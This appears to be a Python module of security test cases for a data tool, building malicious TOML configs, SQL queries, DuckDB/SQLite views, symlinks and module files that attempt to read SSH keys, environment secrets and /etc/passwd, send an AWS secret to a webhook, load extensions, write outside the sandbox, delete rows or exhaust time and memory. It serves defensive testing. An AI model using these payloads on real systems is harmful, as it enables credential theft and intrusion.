"""Attacks by text: queries, settings and addresses in portfolio.toml and healthseg.toml, views in databases."""

from __future__ import annotations

import contextlib
import os
import sqlite3
from collections.abc import Callable

from benchmarks._attacks import Attack, Scene

ROW = "'acme' AS client_id, DATE '2025-01-01' AS signup_date"
PLAIN = f"SELECT {ROW}"


def toml(query: str, before: str = "", table: str = "customers") -> Callable[[Scene], object]:
    def build(places: Scene) -> None:
        places.customers()
        text = f"{before}\n[tables]\n{table} = '''{query}'''\n"
        if table != "customers":
            text += f"customers = '''{PLAIN}'''\n"
        places.write("portfolio.toml", places.filled(text))

    return build


def text_file(name: str, text: str) -> Callable[[Scene], object]:
    def build(places: Scene) -> None:
        places.customers()
        places.write(name, places.filled(text))

    return build


# by name: what it is after, and the query of customers
QUERIES = {
    "COPY behind a closed bracket": (
        "files",
        f"{PLAIN}) ; COPY (SELECT 1) TO 'OUTSIDE/written.csv' ; SELECT * FROM ({PLAIN}",
    ),
    "COPY as a second statement": (
        "files",
        f"{PLAIN}; COPY (SELECT 1) TO 'OUTSIDE/written.csv'",
    ),
    "COPY to a file of the portfolio's folder": (
        "files",
        "COPY (SELECT 1) TO 'FOLDER/customers.csv'",
    ),
    "EXPORT DATABASE": ("files", "EXPORT DATABASE 'OUTSIDE/written'"),
    "ATTACH": ("files", "ATTACH 'OUTSIDE/written.duckdb'"),
    "read_text outside": (
        "files",
        "SELECT content AS client_id, DATE '2025-01-01' AS signup_date FROM read_text('OUTSIDE/secret.txt')",
    ),
    "read_blob by a relative name": (
        "files",
        "SELECT content::VARCHAR AS client_id, DATE '2025-01-01' AS signup_date FROM read_blob('../outside/secret.txt')",
    ),
    "a CSV file outside": ("files", "SELECT * FROM 'OUTSIDE/secret.csv'"),
    "a CSV file outside in a list": (
        "files",
        "SELECT * FROM read_csv(['customers.csv', 'OUTSIDE/secret.csv'])",
    ),
    "a name that is put together": ("files", "SELECT * FROM read_csv('OUT' || 'SIDE/secret.csv')"),
    "a query within a query": (
        "files",
        "SELECT * FROM query('SELECT * FROM read_csv(''OUTSIDE/secret.csv'')')",
    ),
    "a table's name within a query": ("files", "SELECT * FROM query_table('OUTSIDE/secret.csv')"),
    "SQLite through an extension": (
        "files",
        "SELECT * FROM sqlite_scan('OUTSIDE/secret.csv', 'customers')",
    ),
    "the names of files outside": (
        "files",
        "SELECT file AS client_id, DATE '2025-01-01' AS signup_date FROM glob('OUTSIDE/*')",
    ),
    "the process' environment": (
        "files",
        "SELECT content AS client_id, DATE '2025-01-01' AS signup_date FROM read_text('/proc/self/environ')",
    ),
    "getenv": ("files", f"SELECT getenv('AWS_SECRET_ACCESS_KEY') AS client_id, {ROW[20:]}"),
    "variables of the caller": ("files", "SELECT * FROM environ"),
    "the engine's settings": (
        "files",
        "SELECT value AS client_id, DATE '2025-01-01' AS signup_date FROM duckdb_settings()",
    ),
    "INSTALL": ("code", "INSTALL httpfs"),
    "LOAD a library": ("code", "LOAD 'FOLDER/evil.duckdb_extension'"),
    "SET": ("code", "SET enable_external_access = true"),
    "PRAGMA": ("code", "PRAGMA add_parquet_key('a', 'b')"),
    "CREATE MACRO": ("code", "CREATE MACRO lower(x) AS 'acme'"),
    "an http address": ("network", "SELECT * FROM read_csv('URL/rows.csv')"),
    "an http address, put together": (
        "network",
        "SELECT * FROM read_csv('ht' || 'tp:' || '//127.0.0.1:9/x')",
    ),
    "an S3 address": ("network", "SELECT * FROM 's3://bucket/rows.parquet'"),
    "a share on the network": ("network", r"SELECT * FROM read_csv('\\127.0.0.1\share\rows.csv')"),
    "a text of 3 GB": (
        "memory",
        "SELECT repeat('x', 3000000000) AS client_id, DATE '2025-01-01' AS signup_date",
    ),
    "many long texts": (
        "memory",
        "SELECT repeat(chr(65 + (i % 26)::INT), 100000) || i AS client_id, DATE '2025-01-01' AS signup_date "
        "FROM range(1000000) t(i)",
    ),
    "a list of ten thousand million": (
        "memory",
        "SELECT len(range(10000000000))::VARCHAR AS client_id, DATE '2025-01-01' AS signup_date",
    ),
    "all texts in one": (
        "memory",
        "SELECT string_agg(repeat('x', 1000), '') AS client_id, DATE '2025-01-01' AS signup_date FROM range(5000000)",
    ),
    "a million million rows": (
        "time",
        "SELECT i::VARCHAR AS client_id, DATE '2025-01-01' AS signup_date FROM range(1000000000000) t(i)",
    ),
    "a join of everything with everything": (
        "time",
        f"SELECT {ROW} FROM range(10000000) a, range(10000000) b WHERE a.range + b.range = -1",
    ),
    "recursion without an end": (
        "time",
        "WITH RECURSIVE t(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM t) "
        "SELECT i::VARCHAR AS client_id, DATE '2025-01-01' AS signup_date FROM t",
    ),
    "recursion without an end or rows": (
        "time",
        "WITH RECURSIVE t(i) AS (SELECT 1 UNION ALL SELECT 1 - i FROM t) "
        "SELECT 'a' AS client_id, DATE '2025-01-01' AS signup_date FROM t WHERE i = 7",
    ),
    "ten thousand brackets": ("time", f"SELECT {'(' * 10000}1{')' * 10000} AS client_id"),
    "ten thousand subqueries": ("time", f"{'SELECT * FROM (' * 3000}{PLAIN}{')' * 3000}"),
    "a million columns": (
        "memory",
        f"SELECT {ROW}, " + ", ".join(f"{n} AS c{n}" for n in range(100_000)),
    ),
    "a query of 20 MB": ("memory", f"SELECT {ROW}, '{'x' * 20_000_000}' AS name"),
    "a pattern that backtracks": (
        "time",
        f"SELECT {ROW} WHERE regexp_matches(repeat('a', 100000) || 'b', '(a+)+(a+)+(a+)+$')",
    ),
}

HANDLER = (
    '[settings.outbox]\nroutes = { "*" = "out" }\n[settings.outbox.handlers.out]\nkind = "webhook"\n'
    'url = "URL/collect"\ntoken = "$AWS_SECRET_ACCESS_KEY"\n'
)
# by name: what it is after, the file, its text
TEXTS = {
    "a webhook with the operator's secret": ("network", "healthseg.toml", HANDLER),
    "a webhook beside the tables": (
        "network",
        "portfolio.toml",
        f"{HANDLER}\n[tables]\ncustomers = '''{PLAIN}'''\n",
    ),
    "messages into a file outside": (
        "files",
        "healthseg.toml",
        "[settings.outbox.handlers.out]\nkind = 'file'\npath = '../outside/written'\n",
    ),
    "a ledger on another server": (
        "network",
        "healthseg.toml",
        "[settings.ledger]\naddress = '$PGPASSWORD'\n",
    ),
    "any folder's pages over MCP": ("files", "healthseg.toml", "[mcp]\nreports = '/'\n"),
    "Mixpanel's secrets to another address": (
        "network",
        "healthseg.toml",
        "[mixpanel]\napi_url = 'URL'\n",
    ),
    "a query of the operator's database": (
        "code",
        "healthseg.toml",
        "[cache]\nversion_query = 'delete from customers returning 1'\n",
    ),
    "a secret as a setting's value": (
        "files",
        "healthseg.toml",
        "[settings]\nreporting_currency = '$AWS_SECRET_ACCESS_KEY'\n",
    ),
    "the folder /etc": (
        "files",
        "portfolio.toml",
        f"[source]\nfolder = '/etc'\n[tables]\ncustomers = '''{PLAIN}'''\n"
        "arr_changes = '''SELECT content AS client_id, content AS effective_on FROM read_text('/etc/passwd')'''\n",
    ),
    "the folder of the process": (
        "files",
        "portfolio.toml",
        "[source]\nfolder = '/proc/self'\n[tables]\n"
        "customers = '''SELECT content AS client_id, DATE '2025-01-01' AS signup_date FROM read_text('environ')'''\n",
    ),
    "another customer's folder": (
        "files",
        "portfolio.toml",
        "[source]\nfolder = '../outside'\n[tables]\ncustomers = '''SELECT * FROM 'secret.csv' '''\n",
    ),
    "a folder of the operator's environment": (
        "files",
        "portfolio.toml",
        "[source]\nfolder = '$OPERATORS_DATA'\n[tables]\ncustomers = '''SELECT * FROM 'secret.csv' '''\n",
    ),
    "the operator's keys": (
        "files",
        "portfolio.toml",
        "[source]\nfolder = '~/.ssh'\n[tables]\n"
        "customers = '''SELECT content AS client_id, DATE '2025-01-01' AS signup_date FROM read_text('id_rsa')'''\n",
    ),
    "a database of someone else": (
        "network",
        "portfolio.toml",
        "[source]\naddress = 'postgresql://operator@URL/db'\n[tables]\ncustomers = 'SELECT 1'\n",
    ),
    "a SQLite address outside": (
        "files",
        "portfolio.toml",
        "[source]\naddress = 'sqlite:///OUTSIDE/crm.sqlite'\n[tables]\ncustomers = 'SELECT 1'\n",
    ),
    "TOML in 100,000 brackets": ("code", "portfolio.toml", f"a = {'[' * 100_000}{']' * 100_000}\n"),
    "settings in 100,000 brackets": (
        "code",
        "healthseg.toml",
        f"a = {'[' * 100_000}{']' * 100_000}\n",
    ),
    "TOML of 300 MB": ("memory", "portfolio.toml", "# comment\n" * 30_000_000),
    "a whole number of a million digits": (
        "time",
        "healthseg.toml",
        f"[settings]\nseed = {'9' * 1_000_000}\n",
    ),
    "a key in 100,000 parts": ("time", "healthseg.toml", "settings" + ".a" * 100_000 + " = 1\n"),
    "settings without bounds": (
        "time",
        "healthseg.toml",
        "[settings]\nmerger_days = 999999999999\nevent_gap_days = 999999999999\nseed = 999999999\n",
    ),
    "control characters in a key": (
        "code",
        "healthseg.toml",
        '[settings]\n"\\u001b]0;evil\\u0007" = 1\n',
    ),
}


def duckdb_file(*statements: str) -> Callable[[Scene], object]:
    def build(places: Scene) -> None:
        import duckdb

        with duckdb.connect(str(places.folder / "portfolio.duckdb")) as connection:
            for statement in statements:
                connection.execute(places.filled(statement))

    return build


_TABLE = f"CREATE TABLE customers AS {PLAIN}"
_DATABASE = ("check", "FOLDER/portfolio.duckdb")
DUCKDB = {
    "a view that reads a file outside": (
        "files",
        "CREATE VIEW customers AS SELECT * FROM read_csv('OUTSIDE/secret.csv', "
        "columns = {'client_id': 'VARCHAR', 'signup_date': 'DATE'})",
    ),
    "a view that reads the environment": (
        "files",
        "CREATE VIEW customers AS SELECT content AS client_id, DATE '2025-01-01' AS signup_date "
        "FROM read_text('/proc/self/environ')",
    ),
    "a macro in place of a function": (
        "code",
        "CREATE MACRO lower(x) AS (SELECT content FROM read_text('OUTSIDE/secret.txt'))",
    ),
    "a view of a million million rows": (
        "time",
        "CREATE VIEW arr_changes AS SELECT i::VARCHAR AS client_id, DATE '2025-01-01' AS effective_on "
        "FROM range(1000000000000) t(i)",
    ),
    "a view without an end": (
        "time",
        "CREATE VIEW arr_changes AS WITH RECURSIVE t(i) AS (SELECT 1 UNION ALL SELECT 1 - i FROM t) "
        "SELECT 'a' AS client_id, DATE '2025-01-01' AS effective_on FROM t WHERE i = 7",
    ),
    "a view of long texts": (
        "memory",
        "CREATE VIEW arr_changes AS SELECT repeat('x', 2000000000) AS client_id, DATE '2025-01-01' AS effective_on",
    ),
    "a table whose name ends a quotation": (
        "code",
        'CREATE TABLE "arr_changes"" UNION ALL SELECT" AS SELECT 1 AS client_id',
    ),
}


def _damaged_duckdb(places: Scene) -> None:
    duckdb_file(_TABLE)(places)
    path = places.folder / "portfolio.duckdb"
    content = bytearray(path.read_bytes())
    for position in range(4096, len(content), 37):
        content[position] ^= 0xFF
    path.write_bytes(bytes(content))


def _hidden_log(places: Scene) -> None:
    """A write-ahead log of another database beside the file."""
    duckdb_file(_TABLE)(places)
    (places.folder / "portfolio.duckdb.wal").write_bytes(os.urandom(4096))


def sqlite_file(*statements: str) -> Callable[[Scene], object]:
    def build(places: Scene) -> None:
        with contextlib.closing(sqlite3.connect(places.folder / "portfolio.sqlite")) as connection:
            for statement in statements:
                connection.execute(places.filled(statement))
            connection.commit()

    return build


_SQLITE_CUSTOMERS = (
    "CREATE TABLE customers AS SELECT 'acme' AS client_id, '2025-01-01' AS signup_date"
)
SQLITE = {
    "a SQLite view without an end": (
        "time",
        "CREATE VIEW arr_changes AS WITH RECURSIVE t(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM t) "
        "SELECT i AS client_id, '2025-01-01' AS effective_on FROM t",
    ),
    "a SQLite view without an end or rows": (
        "time",
        "CREATE VIEW arr_changes AS WITH RECURSIVE t(i) AS (SELECT 1 UNION ALL SELECT 1 - i FROM t) "
        "SELECT i AS client_id, '2025-01-01' AS effective_on FROM t WHERE i = 7",
    ),
    "a SQLite view of long texts": (
        "memory",
        "CREATE VIEW arr_changes AS SELECT hex(zeroblob(400000000)) AS client_id, '2025-01-01' AS effective_on "
        "UNION ALL SELECT hex(zeroblob(400000001)), '2025-01-01' UNION ALL SELECT hex(zeroblob(400000002)), '2025-01-01'",
    ),
    "a SQLite view that loads a library": (
        "code",
        "CREATE VIEW arr_changes AS SELECT load_extension('FOLDER/evil') AS client_id, '2025-01-01' AS effective_on",
    ),
    "a SQLite view that reads a file": (
        "files",
        "CREATE VIEW arr_changes AS SELECT readfile('OUTSIDE/secret.txt') AS client_id, '2025-01-01' AS effective_on",
    ),
    "a SQLite view that writes a file": (
        "files",
        "CREATE VIEW arr_changes AS SELECT writefile('OUTSIDE/written', 'x') AS client_id, '2025-01-01' AS effective_on",
    ),
}


def _damaged_sqlite(places: Scene) -> None:
    sqlite_file(_SQLITE_CUSTOMERS)(places)
    path = places.folder / "portfolio.sqlite"
    content = bytearray(path.read_bytes())
    content[100:4096:7] = bytes(len(content[100:4096:7]))
    path.write_bytes(bytes(content))


def _fifo(places: Scene) -> None:
    places.customers()
    os.mkfifo(places.folder / "arr_changes.csv")


def _fifo_in_query(places: Scene) -> None:
    toml(
        "SELECT content AS client_id, DATE '2025-01-01' AS effective_on FROM read_text('notes.txt')",
        table="arr_changes",
    )(places)
    os.mkfifo(places.folder / "notes.txt")


def _hidden_fifo(places: Scene) -> None:
    toml(
        "SELECT content AS client_id, DATE '2025-01-01' AS effective_on FROM read_text('FOLDER/no' || 'tes.txt')",
        table="arr_changes",
    )(places)
    os.mkfifo(places.folder / "notes.txt")


def _fifo_config(places: Scene) -> None:
    places.customers()
    os.mkfifo(places.folder / "healthseg.toml")
    os.mkfifo(places.folder / "portfolio.toml")


def _device(places: Scene) -> None:
    places.customers()
    (places.folder / "arr_changes.csv").symlink_to("/dev/zero")


def _link(target: str) -> Callable[[Scene], object]:
    def build(places: Scene) -> None:
        places.customers()
        (places.folder / "arr_changes.csv").symlink_to(places.filled(target))

    return build


def _link_of_query(places: Scene) -> None:
    toml("SELECT * FROM 'inner.csv'")(places)
    (places.folder / "inner.csv").symlink_to(places.outside / "secret.csv")


def _loop(places: Scene) -> None:
    places.customers()
    (places.folder / "events").mkdir()
    (places.folder / "events" / "again").symlink_to(places.folder)
    (places.folder / "arr_changes.csv").symlink_to("arr_changes.csv")


def _cache_link(places: Scene) -> None:
    """The folder of derived data is a link to a folder of the operator's."""
    places.customers()
    (places.folder / ".healthseg").symlink_to(places.outside)


CODE = "import pathlib; pathlib.Path('OUTSIDE/written').write_text('code ran')\n"


def _modules(places: Scene) -> None:
    """Modules of the libraries' names in the folder that the command is started in."""
    places.customers()
    names = "random.py pandas.py json.py duckdb.py sitecustomize.py usercustomize.py healthseg.py conftest.py"
    configs = "jupyter_config.py ipython_config.py jupyter_nbconvert_config.py ipython_kernel_config.py .pdbrc.py"
    for name in f"{names} {configs}".split():
        places.write(name, places.filled(CODE))
    places.write("matplotlibrc", "backend: module://random\n")


def _of(
    rows: dict[str, tuple[str, str]],
    build: Callable[[str], Callable[[Scene], object]],
    *command: str,
) -> list[Attack]:
    return [
        Attack(name, wants, build(text), command or ("check", "FOLDER"))
        for name, (wants, text) in rows.items()
    ]


ATTACKS: list[Attack] = [
    *_of(QUERIES, toml),
    *(
        Attack(
            name,
            wants,
            text_file(file, text),
            ("run", "calculate_health_score", "--portfolio", "FOLDER", "-p", "client_id=acme")
            if file == "healthseg.toml"
            else ("check", "FOLDER"),
        )
        for name, (wants, file, text) in TEXTS.items()
    ),
    *_of(
        DUCKDB,
        lambda text: (
            duckdb_file(_TABLE, text) if "VIEW customers" not in text else duckdb_file(text)
        ),
        *_DATABASE,
    ),
    Attack("a damaged DuckDB file", "code", _damaged_duckdb, _DATABASE),
    Attack("a foreign log beside a DuckDB file", "code", _hidden_log, _DATABASE),
    *_of(
        SQLITE,
        lambda text: sqlite_file(_SQLITE_CUSTOMERS, text),
        "check",
        "FOLDER/portfolio.sqlite",
    ),
    Attack("a damaged SQLite file", "code", _damaged_sqlite, ("check", "FOLDER/portfolio.sqlite")),
    Attack("a pipe in place of a table", "time", _fifo),
    Attack("a pipe that a query reads", "time", _fifo_in_query),
    Attack("a pipe whose name a query hides", "time", _hidden_fifo),
    Attack("pipes in place of settings", "time", _fifo_config),
    Attack("a device in place of a table", "memory", _device),
    Attack("a link to the operator's keys", "files", _link("../home/.ssh/id_rsa")),
    Attack("a link to another customer's table", "files", _link("OUTSIDE/changes.csv")),
    Attack("a link to the process' environment", "files", _link("/proc/self/environ")),
    Attack("a link outside that a query reads", "files", _link_of_query),
    Attack("links in a circle", "time", _loop),
    Attack("derived data in the operator's folder", "files", _cache_link),
    Attack("modules of the libraries' names", "code", _modules),
]
